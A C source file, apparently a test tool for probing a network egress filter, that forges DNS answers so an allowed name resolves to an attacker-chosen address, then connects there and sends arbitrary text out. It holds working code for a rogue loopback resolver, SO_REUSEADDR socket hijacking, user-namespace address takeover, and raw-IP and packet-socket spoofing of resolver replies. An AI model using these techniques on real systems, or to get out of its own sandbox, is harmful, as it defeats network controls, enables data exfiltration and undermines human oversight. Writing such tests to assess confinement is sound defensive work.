/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * Forged answers: make the kernel believe that an allowed name lives at the attacker's address,
 * then connect there. All take SERVER NAME ADDR PORT TEXT:
 *
 *   local      a DNS server of the job's own on a loopback address
 *   beside     the same, where another one listens already
 *   namespace  the resolver's very address, on `lo` of a user namespace (needs no root)
 *   raw        a packet that says it comes from the resolver, sent over `lo`
 *   frame      the same by a packet socket
 *   tcp        over TCP, by a server of the job's own at the resolver's address
 */
#include "dns.h"

#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sched.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/wait.h>

static void serve(int fd, const char *address)
{
	struct message m;
	struct endpoint from = { .length = sizeof(from.address) };
	ssize_t n = recvfrom(fd, m.bytes, sizeof(m.bytes), 0, (struct sockaddr *)&from.address,
			     &from.length);

	if (n < 0)
		refused("recvfrom");
	m.length = (size_t)n;
	dns_answer(&m, address);
	if (sendto(fd, m.bytes, m.length, 0, sockaddr(&from), from.length) < 0)
		refused("sendto");
}

/*
 * Asks LISTEN for NAME, and answers itself with ADDR. Of two sockets that both set SO_REUSEADDR on
 * one address, the later one is given the datagrams.
 */
static void ask_oneself(const char *listen, const char *name, const char *address)
{
	struct endpoint at = endpoint(listen, "53");
	int server = opened(AF_INET, SOCK_DGRAM, 0), client = opened(AF_INET, SOCK_DGRAM, 0);
	struct message m;

	setsockopt(server, SOL_SOCKET, SO_REUSEADDR, &(int){ 1 }, sizeof(int));
	if (bind(server, sockaddr(&at), at.length))
		refused("bind");
	dns_header(&m, 0x4242, 0x0100, 1);
	dns_question(&m, name, 1);
	if (connect(client, sockaddr(&at), at.length) || send(client, m.bytes, m.length, 0) < 0)
		refused("send");
	serve(server, address);
	if (recv(client, m.bytes, sizeof(m.bytes), 0) < 0)
		refused("recv");
}

static void transfer(int fd, unsigned char *bytes, size_t count, int out)
{
	while (count > 0) {
		ssize_t n = out ? send(fd, bytes, count, MSG_NOSIGNAL) : recv(fd, bytes, count, 0);

		if (n <= 0)
			exit(EXIT_REFUSED);
		bytes += n;
		count -= (size_t)n;
	}
}

/* One message as DNS over TCP frames it (RFC 7766). */
static void exchange(int fd, struct message *m, int out)
{
	unsigned char length[2] = { (unsigned char)(m->length >> 8), (unsigned char)m->length };

	transfer(fd, length, 2, out);
	m->length = (size_t)length[0] << 8 | length[1];
	if (m->length <= sizeof(m->bytes))
		transfer(fd, m->bytes, m->length, out);
}

/* A child answers every question over TCP with ADDR; the parent asks, and takes no answer for one too. */
static void over_tcp(char **a)
{
	struct endpoint at = endpoint(a[0], "53");
	int server = opened(AF_INET, SOCK_STREAM, 0), client = opened(AF_INET, SOCK_STREAM, 0);
	struct message m;

	setsockopt(server, SOL_SOCKET, SO_REUSEADDR, &(int){ 1 }, sizeof(int));
	if (bind(server, sockaddr(&at), at.length) || listen(server, 8))
		refused("listen");
	pid_t child = fork();

	if (child == 0) {
		int peer = accept(server, NULL, NULL);

		deadline(peer, PATIENCE);
		exchange(peer, &m, 0);
		dns_answer(&m, a[2]);
		exchange(peer, &m, 1);
		exit(EXIT_SENT);
	}
	dns_header(&m, 0x4244, 0x0100, 1);
	dns_question(&m, a[1], 1);
	pid_t asker = fork();

	if (asker == 0) {
		if (connect(client, sockaddr(&at), at.length))
			refused("connect");
		exchange(client, &m, 1);
		exchange(client, &m, 0);
		dns_print(&m);
		exit(EXIT_SENT);
	}
	waitpid(asker, NULL, 0);
	kill(child, SIGKILL);
}

static void put_on_loopback(const char *address)
{
	int fd = opened(AF_INET, SOCK_DGRAM, 0);
	struct ifreq request = { .ifr_name = "lo" };
	struct endpoint at = endpoint(address, "0");

	request.ifr_flags = IFF_UP;
	if (ioctl(fd, SIOCSIFFLAGS, &request))
		missing("SIOCSIFFLAGS");
	strcpy(request.ifr_name, "lo:1");
	memcpy(&request.ifr_addr, &at.address, sizeof(struct sockaddr_in));
	if (ioctl(fd, SIOCSIFADDR, &request))
		missing("SIOCSIFADDR");
}

/* The forgery runs in a child; the parent stays in the namespace that has a way out. */
static void in_namespace(char **a)
{
	int status;
	pid_t child = fork();

	if (child == 0) {
		if (unshare(CLONE_NEWUSER | CLONE_NEWNET))
			missing("unshare");
		put_on_loopback(a[0]);
		ask_oneself(a[0], a[1], a[2]);
		exit(EXIT_SENT);
	}
	if (child < 0 || waitpid(child, &status, 0) < 0)
		refused("fork");
	/* What the agent refused in there is no reason not to try the way out. */
	if (WIFEXITED(status) && WEXITSTATUS(status) == EXIT_MISSING)
		exit(EXIT_MISSING);
}

/* By a packet socket on `lo`: behind 14 bytes of link header. */
static ssize_t send_frame(const unsigned char *packet, size_t length)
{
	int fd = opened(AF_PACKET, SOCK_DGRAM, 0);
	struct sockaddr_ll to = {
		.sll_family = AF_PACKET,
		.sll_protocol = htons(ETH_P_IP),
		.sll_ifindex = (int)if_nametoindex("lo"),
		.sll_halen = 6,
	};

	return sendto(fd, packet, length, 0, (struct sockaddr *)&to, sizeof(to));
}

/* A genuine question leaves; the forged answer is there before the genuine one. */
static void inject(char **a, int by_frame)
{
	struct endpoint resolver = endpoint(a[0], "53");
	struct sockaddr_in self;
	socklen_t length = sizeof(self);
	int client = opened(AF_INET, SOCK_DGRAM, 0), raw = opened(AF_INET, SOCK_RAW, IPPROTO_RAW);
	size_t size;
	ssize_t sent;
	struct message m;
	unsigned char packet[2048];
	struct iphdr ip = { .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP };
	struct udphdr udp = { .source = htons(53) };

	dns_header(&m, 0x4243, 0x0100, 1);
	dns_question(&m, a[1], 1);
	if (connect(client, sockaddr(&resolver), resolver.length) ||
	    send(client, m.bytes, m.length, 0) < 0)
		refused("send");
	getsockname(client, (struct sockaddr *)&self, &length);
	dns_answer(&m, a[2]);
	ip.saddr = ((struct sockaddr_in *)&resolver.address)->sin_addr.s_addr;
	ip.daddr = self.sin_addr.s_addr;
	udp.dest = self.sin_port;
	udp.len = htons((unsigned short)(sizeof(udp) + m.length));
	memcpy(packet, &ip, sizeof(ip));
	memcpy(packet + sizeof(ip), &udp, sizeof(udp));
	memcpy(packet + sizeof(ip) + sizeof(udp), m.bytes, m.length);
	size = sizeof(ip) + sizeof(udp) + m.length;
	((struct iphdr *)packet)->tot_len = htons((unsigned short)size);
	((struct iphdr *)packet)->check = checksum(packet, sizeof(ip));
	sent = by_frame ? send_frame(packet, size) :
			  sendto(raw, packet, size, 0, (struct sockaddr *)&self, length);
	if (sent < 0)
		perror("sendto");
	if (recv(client, m.bytes, sizeof(m.bytes), 0) < 0)
		perror("recv");
	else
		dns_print(&m);
}

int main(int argc, char **argv)
{
	if (argc != 7)
		usage("forge local|beside|namespace|raw|frame|tcp SERVER NAME ADDR PORT TEXT");
	if (!strcmp(argv[1], "local") || !strcmp(argv[1], "beside"))
		ask_oneself(argv[2], argv[3], argv[4]);
	else if (!strcmp(argv[1], "namespace"))
		in_namespace(argv + 2);
	else if (!strcmp(argv[1], "tcp"))
		over_tcp(argv + 2);
	else if (!strcmp(argv[1], "raw") || !strcmp(argv[1], "frame"))
		inject(argv + 2, argv[1][0] == 'f');
	else
		usage("forge local|beside|namespace|raw|frame|tcp SERVER NAME ADDR PORT TEXT");
	struct endpoint to = endpoint(argv[4], argv[5]);
	int fd = opened(to.family, SOCK_STREAM, 0);

	if (connect(fd, sockaddr(&to), to.length))
		refused("connect");
	send_all(fd, argv[6], strlen(argv[6]));
	return finish(fd);
}
